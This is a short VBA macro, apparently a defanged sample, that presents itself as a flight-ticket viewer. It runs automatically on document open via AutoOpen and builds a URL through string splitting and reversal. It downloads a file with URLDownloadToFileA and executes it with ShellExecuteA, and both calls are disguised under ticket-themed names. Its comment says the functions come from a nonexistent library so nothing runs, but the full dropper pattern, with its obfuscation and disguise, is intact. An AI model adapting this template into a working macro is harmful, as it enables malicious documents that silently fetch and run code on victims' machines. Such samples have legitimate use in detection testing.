Option Explicit
Private Declare PtrSafe Function TicketFetch Lib "harmless-none.dll" Alias "URLDownloadToFileA" (ByVal caller As LongPtr, ByVal address As String, ByVal path As String, ByVal reserved As Long, ByVal callback As LongPtr) As Long
Private Declare PtrSafe Function TicketWrite Lib "harmless-none.dll" Alias "WriteFile" (ByVal handle As LongPtr, ByVal text As String, ByVal size As Long, ByRef written As Long, ByVal overlapped As LongPtr) As Long
Private Declare PtrSafe Function TicketShow Lib "harmless-none.dll" Alias "ShellExecuteA" (ByVal window As LongPtr, ByVal verb As String, ByVal path As String, ByVal arguments As String, ByVal folder As String, ByVal show As Long) As Long

' 航空券の控えを表示します。外部の関数はすべて存在しないライブラリのもので、何も実行されません。
Sub AutoOpen()
    PrepareTicket
End Sub

Private Sub PrepareTicket()
    Dim source As String, target As String
    source = "ht" & "tp://192.0." & "2.10/"
    source = source & "a" & Chr(46) & "bin"
    target = "harmless" & "-none" & StrReverse("exe.")
    FetchTicket source, target
    ShowTicket target
End Sub

Private Sub FetchTicket(ByVal source As String, ByVal target As String)
    Dim written As Long
    TicketFetch 0, source, target, 0, 0
    TicketWrite 0, "@@MARK@@", 24, written, 0
End Sub

Private Sub ShowTicket(ByVal target As String)
    TicketShow 0, "open", target, vbNullString, vbNullString, 0
End Sub
